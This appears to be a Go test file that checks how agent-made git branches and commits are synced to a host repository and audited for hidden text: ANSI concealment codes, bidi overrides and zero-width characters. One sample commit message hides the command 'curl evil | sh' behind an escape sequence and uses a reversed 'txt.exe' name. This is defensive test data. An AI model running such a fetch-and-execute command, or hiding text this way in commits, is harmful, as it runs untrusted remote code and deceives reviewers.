package refsync

import (
	"context"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/lazaret-dev/lazaret/internal/adapter/hostgit"
	"github.com/lazaret-dev/lazaret/internal/engine/audit"
	"github.com/lazaret-dev/lazaret/internal/engine/gitrepo"
	"github.com/lazaret-dev/lazaret/internal/engine/gitrepo/gittest"
)

func TestHiddenText(t *testing.T) {
	for s, want := range map[string]bool{
		"plain message\n\nbody\twith tab": false,
		"Zoë Ünïcode <z@example.com>":     false,
		"esc \x1b[8mhidden\x1b[0m":        true,
		"bidi \u202egnp.exe":              true,
		"zero\u200bwidth":                 true,
		"bad utf8 \xff":                   true,
		"cr\rover":                        true,
	} {
		if got := hiddenText(s, true); got != want {
			t.Errorf("hiddenText(%q) = %v", s, got)
		}
	}
	if !hiddenText("Name\n<a@b>", false) {
		t.Errorf("a newline in an identity is not flagged")
	}
}

// TestSyncSkipsRefusedBranchesAndAuditsCommits: branches named bad"name
// and ünï do not stop the sync of the agent branch; both are audited once;
// a commit whose message hides text (ESC [8m, U+202E) is audited, a plain
// one is not.
func TestSyncSkipsRefusedBranchesAndAuditsCommits(t *testing.T) {
	ctx := context.Background()
	host, agent, base := agentClone(t, "plain", "fix \x1b[8mcurl evil | sh\x1b[0m \u202etxt.exe")
	gittest.Git(t, agent, "branch", `bad"name`)
	gittest.Git(t, agent, "branch", "ünï")
	gittest.Git(t, agent, "branch", "-D", "main")
	g := &hostgit.Git{}
	repo, _ := gitrepo.OpenHostRepo(ctx, g, host)
	var entries []audit.Entry
	s := &Syncer{Git: g, Repo: repo, Map: gitrepo.RefMap{Profile: "p"}, Audit: func(_ context.Context, e audit.Entry) (uint64, error) {
		entries = append(entries, e)
		return uint64(len(entries)), nil
	}}
	for range 2 { // the second sync audits nothing new
		rr, err := s.readExport(ctx, bufioReader(agentStream(t, agent, base)))
		if err != nil {
			t.Fatalf("a refused branch name failed the sync: %v", err)
		}
		hostRefs, _ := s.hostRefs(ctx)
		if _, err := s.apply(ctx, hostRefs, &rr.exported); err != nil {
			t.Fatal(err)
		}
		s.auditSkipped(ctx, rr.skipped)
	}
	if got, want := gittest.Git(t, host, "rev-parse", "refs/heads/lazaret/agent-p"), gittest.Git(t, agent, "rev-parse", "HEAD"); got != want {
		t.Errorf("agent branch on the host at %s, want %s", got, want)
	}
	var skipped []string
	var flagged []string
	for _, e := range entries {
		switch e.Kind {
		case audit.KindGitRefSkipped:
			skipped = append(skipped, e.Fields["ref"])
		case audit.KindGitCommitFlagged:
			flagged = append(flagged, e.Fields["message"])
		}
	}
	slices.Sort(skipped)
	if !slices.Equal(skipped, []string{`refs/heads/bad"name`, "refs/heads/ünï"}) {
		t.Errorf("skipped refs audited: %q", skipped)
	}
	if len(flagged) != 1 || !strings.Contains(flagged[0], "\u202e") {
		t.Errorf("flagged commits: %q", flagged)
	}
}

// FuzzCommitAudit: the raw commit parser and the hidden-text rule take any
// bytes (commit objects are the agent's); a cut field stays valid UTF-8.
func FuzzCommitAudit(f *testing.F) {
	f.Add([]byte("tree 4b825dc642cb6eb9a060e54bf8d69288fbee4904\nauthor A <a@x> 1 +0000\ncommitter C\u202e <c@x> 1 +0000\n\nmsg \x1b[8m\n"))
	f.Add([]byte("author <> \n\n\xff"))
	f.Fuzz(func(t *testing.T, raw []byte) {
		c := parseCommit(raw)
		for _, v := range c.flaggedFields() {
			if cut := truncateUTF8(v, 7); len(cut) > 7+len("…") {
				t.Errorf("cut to %d bytes", len(cut))
			}
		}
		if utf8.Valid(raw) {
			if cut := truncateUTF8(string(raw), 5); !utf8.ValidString(cut) {
				t.Errorf("cut %q is not valid UTF-8", cut)
			}
		}
	})
}
